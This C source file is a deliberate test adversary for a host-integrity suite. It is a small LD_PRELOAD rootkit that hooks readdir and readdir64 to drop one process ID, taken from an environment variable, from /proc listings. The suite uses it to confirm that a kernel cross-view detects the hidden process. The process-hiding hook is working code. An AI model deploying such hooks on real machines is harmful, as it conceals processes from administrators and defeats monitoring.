// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * A TEST ADVERSARY for tests/kernel/test_integrity_host.py and the VM suite:
 * a userland rootkit in the libprocesshider mould.  LD_PRELOADed into ONE
 * scanner subprocess (never globally), it drops the directory entry named
 * $BASTION_TEST_HIDE_PID from every readdir(), so that process's
 * listing of /proc — the view `ps` has — no longer shows the victim.
 * The kernel's task iterator still does: that is what the cross-view catches.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>

static int hidden(const char *name)
{
	const char *pid = getenv("BASTION_TEST_HIDE_PID");
	return pid && *pid && strcmp(name, pid) == 0;
}

struct dirent *readdir(DIR *d)
{
	static struct dirent *(*real)(DIR *);
	struct dirent *e;

	if (!real)
		real = (struct dirent *(*)(DIR *))dlsym(RTLD_NEXT, "readdir");
	do
		e = real(d);
	while (e && hidden(e->d_name));
	return e;
}

struct dirent64 *readdir64(DIR *d)
{
	static struct dirent64 *(*real)(DIR *);
	struct dirent64 *e;

	if (!real)
		real = (struct dirent64 *(*)(DIR *))dlsym(RTLD_NEXT, "readdir64");
	do
		e = real(d);
	while (e && hidden(e->d_name));
	return e;
}
